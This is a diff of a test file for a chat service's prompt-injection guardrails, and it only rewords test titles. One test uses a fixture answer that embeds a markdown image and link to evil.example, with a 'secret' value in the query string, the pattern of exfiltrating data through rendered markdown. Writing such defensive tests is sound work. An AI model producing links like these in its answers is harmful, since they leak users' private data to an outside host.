@@ -66,7 +66,7 @@ it("guardrails of a chat flag a prompt injection and let the model answer it by 
   expect(streamedText(frames)).toBe("I do not have one.");
 });
 
-it("guardrails of a chat send findings that changed nothing to callers with usage.read only", async () => {
+it("guardrails of a chat show findings that changed nothing only to callers with the permission usage.read", async () => {
   const member = new Client({ ...newIdentity("member"), tenant: client.identity.tenant }, service.baseUrl);
   for (const [asker, count] of [
     [client, 1],
@@ -199,7 +199,7 @@ describe("answer that the policy can block", () => {
     },
   );
 
-  it("answer that the policy can block is sent after its check without findings", async () => {
+  it("answer that the policy can block is sent after a check that finds nothing", async () => {
     const { frames, text } = await ask({ secrets: { answer: "block" } }, ["You have ", "no key."]);
     const types = frames.map(({ event }) => event);
     expect(types.indexOf("assistant_message")).toBeGreaterThan(types.lastIndexOf("guardrail_result"));
@@ -372,7 +372,7 @@ describe("answer of a model that obeys a prompt injection", () => {
     return asker.chat({ conversation_id, content, tier: "QUICK" });
   };
 
-  it("answer of a model that obeys a prompt injection keeps every link if the model has read no text of others", async () => {
+  it("answer of a model that has read no text of others keeps every link and image", async () => {
     const text = "See ![x](https://evil.example/p.png?d=secret) and [a](https://evil.example/?q=77B421#b).";
     expect(streamedText(await ask(() => [text]))).toBe(text);
   });
